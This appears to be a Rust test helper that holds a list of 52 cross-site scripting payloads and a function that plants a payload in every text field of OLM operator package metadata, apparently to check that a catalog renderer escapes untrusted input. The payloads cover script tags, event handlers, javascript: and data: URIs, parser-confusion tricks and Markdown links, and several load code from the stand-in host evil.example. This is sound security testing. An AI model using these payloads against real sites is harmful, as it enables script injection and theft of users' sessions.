//! Texts that run a script on a page that does not escape or sanitise them, and packages that have them everywhere.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

/// One per way of injection: elements, attributes, schemes, Markdown, other languages, escapes from comments and raw text,
/// confused parsers, names of files.
pub(crate) const PAYLOADS: [&str; 52] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<img src=\"x\" onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"https://e.example\" onclick=\"alert(1)\" target=_blank>x</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\" autofocus onfocus=alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: JaVaScRiPt:alert(1)",
    "![x](x\"onerror=\"alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n</pre><script>alert(1)</script>\n```",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "</title></textarea></style></script><script>alert(1)</script>",
    "\u{202e}<\u{0}script\u{b}>alert(1)</script\u{7f}>\u{feff}\u{2028}",
    "../../../<img src=x onerror=alert(1)>/%2e%2e%2f..\\..\\x",
];

/// Returns the metas of a package with `text` in every field that takes a text.
pub(crate) fn everywhere(text: &str) -> Vec<Value> {
    let other = format!("{text}2");
    let entry = json!({"name": text, "replaces": other, "skips": [other, text], "skipRange": text});
    let icon = STANDARD.encode(format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script>{text}</svg>"
    ));
    let person = json!({"name": text, "email": text});
    let link = |url: &str| json!({"name": text, "url": url});
    let metadata = json!({"displayName": text, "description": text, "keywords": [text, other], "provider": {"name": text, "url": text},
        "maturity": text, "minKubeVersion": text, "maintainers": [person, person],
        "links": [link(text), link(&format!("https://example.org/{text}")), link("javascript:alert(1)")]});
    let reference =
        |schema: &str, name: &str| json!({"reference": {"schema": schema, "name": name}, "message": text});
    vec![
        json!({"schema": "olm.package", "name": text, "defaultChannel": text, "description": text,
            "icon": {"base64data": icon, "mediatype": text}}),
        json!({"schema": "olm.channel", "package": text, "name": text, "entries": [entry, {"name": other}]}),
        json!({"schema": "olm.channel", "package": text, "name": other, "entries": [{"name": other}]}),
        json!({"schema": "olm.bundle", "package": text, "name": text, "image": text, "properties": [
            {"type": "olm.package", "value": {"packageName": text, "version": "1.0.0"}},
            {"type": text, "value": text}, {"type": "olm.csv.metadata", "value": metadata}]}),
        json!({"schema": "olm.bundle", "package": text, "name": other, "image": other, "properties": [
            {"type": "olm.package", "value": {"packageName": text, "version": text}}]}),
        json!({"schema": "olm.deprecations", "package": text, "entries": [reference("olm.package", ""),
            reference("olm.channel", text), reference("olm.bundle", text), reference("olm.bundle", &other)]}),
        json!({"schema": "io.openshift.operators.lifecycles.v1alpha1", "package": text, "name": text,
            "versions": [{"name": "1.0", "phases": [{"name": text, "startDate": "2024-01-01", "endDate": "2030-01-01"}],
                "platforms": [{"name": text, "versions": ["1.30"]}]}]}),
    ]
}
